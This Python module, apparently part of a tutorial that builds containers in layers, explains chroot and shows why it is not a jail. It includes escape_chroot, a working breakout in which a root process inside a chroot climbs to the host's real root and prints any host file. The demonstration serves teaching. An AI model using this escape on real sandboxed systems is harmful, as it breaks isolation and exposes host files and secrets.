"""Layer 1: chroot — a different `/` for one process (and why that is not a jail).

chroot(2) changes what one process calls `/`: after chroot("rootfs"), opening
"/bin/sh" opens "rootfs/bin/sh". This is where containers come from (Unix had it in
1979) and it is already enough to run another distribution's programs.

But it changes a path lookup, nothing more. The process still sees the host's
processes, hostname, network and mounts, and a root process can walk back out: chroot
into a subdirectory while its working directory stays outside it, then `..` is never
stopped by the (new) root on the way up. `escape_chroot` below does exactly that. The
next layer closes the hole with a mount namespace and pivot_root.
"""
from __future__ import annotations

import os
from collections.abc import Sequence
from functools import partial
from pathlib import Path

from . import process
from .rootfs import check_rootfs


def chroot_into(rootfs: str | os.PathLike) -> None:
    """Make `rootfs` this process's `/` and step into it."""
    os.chroot(rootfs)
    os.chdir("/")


def run_chrooted(rootfs: Path, argv: Sequence[str], **options) -> tuple[int, str]:
    """Run `argv` in a child whose `/` is `rootfs` (layer 1 and nothing else), to the
    end: its exit code and its output."""
    rootfs = check_rootfs(rootfs)
    return process.capture(argv, [partial(chroot_into, rootfs)], **options)


def escape_chroot(host_file: str) -> None:
    """What an attacker runs inside a chroot: climb out, then print a host file.

    Runs as the container's process (root, inside the chroot), writing to its stdout.
    """
    os.chroot("/tmp")          # a new root below us; our working directory stays at "/"
    for _ in range(64):        # ".." only stops at the root, and we are above it now
        os.chdir("..")
    os.chroot(".")             # the real root of the machine
    with open(host_file, "rb") as f:
        os.write(1, f.read())
